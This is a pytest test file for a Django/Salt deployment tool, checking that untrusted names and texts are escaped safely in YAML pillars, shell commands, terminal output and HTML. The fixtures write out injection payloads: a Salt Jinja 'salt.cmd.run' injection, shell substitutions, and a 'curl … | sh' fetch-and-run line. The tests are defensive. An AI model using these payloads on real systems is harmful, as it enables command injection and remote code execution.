"""Text of others, however it was made, is shown, put into a pillar and put into a command as data."""

import random
import re
import shlex
import subprocess
import unicodedata
from typing import Any

import jinja2
import pytest
import yaml
from django_formula.host import commands
from django_formula.host.commands import DeploymentError
from django_formula.inspect import inspection
from django_formula.knowledge import cause_file, hints
from django_formula.untrusted import text as untrusted_text
from django_formula.untrusted.text import pillar_head, pillar_line
from specimen import configured
from thinned import each
from trees import write_tree

#: What terminals, Jinja, YAML and shells give a meaning, and ordinary text between.
SIGNS = """
    {{ }} {% %} {# #} { } % # ' " ; $ ` \\ & * | > < ( ) [ ] , - ? ! = ~ : @ / . .. a é 😀 yes no null true 1e3 0x1f
    0o17 012 1_000 2024-01-01 12:30:45 .inf .nan << --- ... !!python/object:x !tag &anchor *alias x{{1/0}}y {%raw%}
"""
PARTS = [
    *SIGNS.split(),
    *(" ", "  ", ": ", " #", "- ", "\t", "\n", "\r", "\r\n", "\0", "\x07", "\x1b", "\x1b[2J", "\x1b]0;x\x07", "\x7f"),
    *("\x85", "\x9b", "\xa0", "\u200b", "\u2028", "\u2029", "\u202e", "\u2066", "\ufeff", "\udc80", "\U000e0001"),
    "x" * 1100,
]
#: How Salt renders a pillar before it reads the YAML.
JINJA = jinja2.Environment(undefined=jinja2.StrictUndefined, keep_trailing_newline=True)
#: Categories of characters that move the cursor, add a line, turn the direction of text or cannot be encoded.
INVISIBLE = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}


def words(chance: random.Random) -> str:
    return "".join(chance.choice(PARTS) for _ in range(chance.randint(0, 6)))


def values(chance: random.Random, depth: int = 0) -> Any:
    kind = chance.random()
    if depth < 3 and kind < 0.2:
        return [values(chance, depth + 1) for _ in range(chance.randint(0, 3))]
    if depth < 3 and kind < 0.4:
        return {words(chance): values(chance, depth + 1) for _ in range(chance.randint(0, 3))}
    return chance.choice([True, False, None, 0, -7, 10**30, 1e3, 1e20, -2.5e-9]) if kind < 0.5 else words(chance)


def loaded(text: str) -> Any:
    """Return what a pillar has: the same with Jinja and without."""
    plain = yaml.safe_load(text)
    assert yaml.safe_load(JINJA.from_string(text).render()) == plain
    return plain


@pytest.mark.parametrize("seed", each(4, range(20)))
def test_value_in_pillar_is_that_value_again(seed):
    chance = random.Random(seed)
    for _ in range(100):
        value, key, remark = values(chance), words(chance), words(chance)
        text = untrusted_text.in_pillar(value)
        hint = untrusted_text.in_pillar(value, quote="'")
        assert loaded(text) == loaded(hint) == value and "\n" not in text + hint
        lines = [pillar_head(2, "a"), pillar_line(4, key, value, remark), pillar_line(4, f"z{key}", 1, remark)]
        assert loaded(untrusted_text.pillar_block(0, {"site": {key: value}})) == {"site": {key: value}}
        assert loaded("\n".join(["site:", *lines, ""])) == {"site": {"a": {key: value, f"z{key}": 1}}}


@pytest.mark.parametrize("seed", range(20))
def test_shown_text_has_no_character_that_a_terminal_obeys(seed):
    chance = random.Random(seed)
    for _ in range(200):
        text = words(chance)
        shown, lines = untrusted_text.shown(text), untrusted_text.shown(text, lines=True)
        assert not INVISIBLE & {*map(unicodedata.category, shown)} and len(shown.splitlines()) <= 1
        assert not INVISIBLE & {*map(unicodedata.category, re.sub(r"[\n\t]", "", lines))}
        assert shown == text or not text.isprintable()
        shown.encode()


@pytest.mark.parametrize("seed", range(5))
def test_command_has_the_words_that_it_was_made_of(seed):
    chance = random.Random(seed)
    for _ in range(60):
        argv = [words(chance) for _ in range(chance.randint(1, 4))]
        command = untrusted_text.in_command(*argv)
        assert bool(command) == all(word.isprintable() for word in argv)
        if command:
            assert shlex.split(command) == argv
            done = subprocess.run(
                ["sh", "-c", f"printf '%s\\0' {command}"], capture_output=True, check=True, timeout=10, encoding="utf-8"
            )
            assert done.stdout.split("\0")[:-1] == argv


def test_answer_is_shown_in_all_its_parts():
    answer = {"a\x1b[2J": ["b\u202e", ("c\x85", 1)], "d": {"e": "two\n\tlines\r\n"}, "n": None}
    assert untrusted_text.shown_answer(answer) == {
        "a\\x1b[2J": ["b\\u202e", ["c\\x85", 1]],
        "d": {"e": "two\n\tlines\n"},
        "n": None,
    }


def test_no_pillar_is_made_of_what_is_no_data():
    with pytest.raises(TypeError):
        untrusted_text.in_pillar({"a": object()})


def test_proposal_without_a_command_is_none():
    assert untrusted_text.proposal("run: {}, then apply", "mv", "/a b", "/c") == "run: mv '/a b' /c, then apply"
    assert untrusted_text.proposal("run: {}", "mv", "/a\nb") == ""


# What is made of it

MANAGE = "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'site.settings')"
PROJECT = {
    "manage.py": MANAGE,
    "site/__init__.py": "",
    "site/wsgi.py": "application = get_wsgi_application()",
    "site/settings.py": "ROOT_URLCONF = 'site.urls'\n",
    "requirements.txt": "django\ncelery\n",
}
#: It raises an exception where Jinja runs it.
ATTACK = "x{{ salt.cmd.run('id') }}y"


def inspected(tmp_path, files: dict[str, str], folder: str = "shop") -> tuple[str, dict[str, Any]]:
    text = inspection.inspect(str(write_tree(tmp_path / folder, files)))
    (site,) = loaded(text)["django"]["sites"].values()
    return text, site


def test_command_of_a_procfile_is_no_program_of_jinja(tmp_path):
    """A whole one is not proposed: no pillar takes it."""
    whole = "python manage.py foo '{{ salt.cmd.run(dict(id=1)|first) }}'"
    command = "python manage.py foo '{{ salt.cmd.run(' '{# a #}'"
    text, site = inspected(tmp_path, {**PROJECT, "Procfile": f"other: {command}\nwhole: {whole}\n"})
    assert shlex.split(site["workers"]["other"]["command"])[-2:] == ["{{ salt.cmd.run(", "{# a #}"]
    assert "whole" not in site["workers"] and "salt.cmd.run(dict" not in text


@pytest.mark.usefixtures("asked_here")
@pytest.mark.parametrize(
    "name", [ATTACK, "x\n      user: shop", "x\n    other: {}", "x\x1b[2J", "x\x85y: 1", "x\u2028y: 1"]
)
def test_name_of_a_folder_adds_nothing_to_the_pillar(tmp_path, name):
    """A second manage.py makes that of the folder a guess, which a comment names: the pillar takes no such name."""
    files = {f"{name}/{path}": content for path, content in PROJECT.items()} | {"z/manage.py": MANAGE}
    text, site = inspected(tmp_path, files)
    assert "project" not in site
    assert "the pillar takes no such names in `project`, rename them: x" in text.replace("\n#     ", " ")
    assert not {"user", "other", "y"} & {*site, *yaml.safe_load(text)["django"]["sites"]}
    assert text.replace("\n", "").isprintable()


@pytest.mark.parametrize("name", ["up; touch $HOME:pwned2; #", "up`id`", "up $(id)", "up'x"])
def test_name_in_a_command_is_one_word_of_it(tmp_path, name):
    files = {**PROJECT, f"{name}/a.txt": "", "site/settings.py": f"MEDIA_ROOT = BASE_DIR / {name!r}\n"}
    files["site/settings.py"] = (
        f"from pathlib import Path\nBASE_DIR = Path(__file__).parent.parent\n{files['site/settings.py']}"
    )
    text, _site = inspected(tmp_path, files)
    (line,) = re.findall(r"(?m)^#   (runuser .*)$", text)
    assert shlex.split(line)[6] == f"/srv/django/SITE/current/source/{name}/."


@pytest.mark.parametrize("name", [ATTACK, "up\nx", "up\x1b[2J"])
def test_command_with_a_name_that_cannot_be_quoted_is_not_proposed(tmp_path, name):
    settings = f"from pathlib import Path\nMEDIA_ROOT = Path(__file__).parent.parent / {name!r}\n"
    text, _site = inspected(tmp_path, {**PROJECT, f"{name}/a.txt": "", "site/settings.py": settings})
    assert "runuser" not in text and "no command is proposed" in text


@pytest.mark.usefixtures("asked_here")
@pytest.mark.parametrize("seed", range(12))
def test_pillar_of_an_inspection_has_the_data_that_was_found(tmp_path, monkeypatch, seed):
    """Whatever names and texts the project has, in values, in names of entries and in comments."""
    chance = random.Random(seed)
    shop = words(chance).replace("/", "").replace("\0", "").strip(".")[:60] or "a"
    shop = shop.encode(errors="ignore").decode()
    files = {f"{shop}/{path}": content for path, content in PROJECT.items()} | {"z/manage.py": MANAGE}
    texts = [words(chance).replace("\0", "").encode(errors="ignore").decode() for _ in range(4)]
    files["Procfile"] = f"one: python manage.py foo {shlex.quote(texts[0])}\ntwo: celery -A site worker -Q {texts[1]}\n"
    files["crontab"] = f"1 2 * * * python manage.py bar {shlex.quote(texts[2])}\n"
    files[f"{shop}/site/settings.py"] = f"import os\nX = os.environ['X']\nY = os.environ.get('Y', {texts[3]!r})\n"
    asked = inspection.delegate.ask
    answers = []

    def ask(*arguments, **options):
        answers.append(asked(*arguments, **options))
        return answers[-1]

    monkeypatch.setattr(inspection.delegate, "ask", ask)
    text, site = inspected(tmp_path, files)
    (answer,) = answers
    meant = {
        line["key"]: {one["key"]: one["value"] for one in line["entries"]} if "entries" in line else line["value"]
        for line in answer["lines"]
    }
    assert site == meant and text.replace("\n", "").isprintable()


@pytest.mark.parametrize(
    "answer", [{}, {"remarks": [1], "lines": []}, {"remarks": [], "lines": [{"key": "a"}]}, "x: 1"]
)
def test_answer_of_the_reading_process_is_data(tmp_path, monkeypatch, answer):
    """A process of the user who owns the folder may have replaced it."""
    monkeypatch.setattr(inspection.delegate, "ask", lambda *_, **__: answer)
    with pytest.raises(DeploymentError, match="without a usable answer"):
        inspection.inspect(str(tmp_path))


# Errors, hints and logs


@pytest.mark.parametrize("name", ["a; curl -s example.org | sh #", "a$(id)", "a`id`", "a b"])
def test_path_of_an_exception_is_one_word_of_a_command(name):
    site = configured()
    text = f"FileNotFoundError: [Errno 2] No such file or directory: '{site.shared.top}/{name}/x.csv'"
    hint = cause_file.of_file(site, text, {})
    command = re.search(r"runuser .*(?=, or put it there)", hint)
    assert command and shlex.split(command[0])[-1] == f"{site.shared.top}/{name}"


def test_path_of_an_exception_that_cannot_be_quoted_is_in_no_command():
    site = configured()
    text = f"No such file or directory: '{site.shared.top}/a\x1b]0;b\x07/x.csv'"
    assert cause_file.of_file(site, text, {}) == "x.csv is missing in what releases share: put it there"


def test_value_in_a_hint_is_a_value_of_yaml():
    names = ["x{{ 1/0 }}", "yes", "a]: {b: c", "it's", "new\nline"]
    assert loaded(hints.listed(names)) == names


def test_error_is_shown_in_all_its_parts():
    error = DeploymentError("a\x1b[2J\u202e", details=["b\nc\x85"], log="d\x1b]0;x\x07\n\x1b[31me\x1b[0m", hint="f\x9b")
    assert str(error) == "a\\x1b[2J\\u202e\n  b\\nc\\x85\n  | d\\x1b]0;x\\x07\n  | e\nf\\x9b"


def test_secret_is_masked_as_it_is_shown():
    secret = "se\x85cret\nkey"
    for text in (secret, untrusted_text.shown(secret), untrusted_text.shown(secret, lines=True)):
        assert commands.redact(f"a {text} b", [secret]) == "a ********** b"


def test_log_is_shown(caplog):
    untrusted_text.Log.of("django_test").warning("%s: %d of %s", "a\x1b[2J", 3, DeploymentError("b\u2028"))
    assert caplog.messages == ["a\\x1b[2J: 3 of b\\u2028"]


@pytest.mark.parametrize("value", ["<b>", '"><img>', "' onload='x", "&lt;", "\u202e\x1b[2J", "</b>"])
def test_text_in_a_page_is_no_element_and_no_attribute(value):
    found = untrusted_text.element("b", value, title=value)
    assert found.startswith('<b title="') and found.endswith("</b>")
    inside = found[len('<b title="') : -len("</b>")]
    assert not set("<'\u202e\x1b") & {*inside} and inside.count('"') == inside.count(">") == 1


def test_elements_in_a_page_are_not_escaped_again():
    assert untrusted_text.element("p", untrusted_text.element("b", "a & b"), " <") == "<p><b>a &amp; b</b> &lt;</p>"
    assert untrusted_text.element("meta", charset="utf-8", class_=None) == '<meta charset="utf-8">'
    assert untrusted_text.element("path", d="M0 0") == '<path d="M0 0"/>'
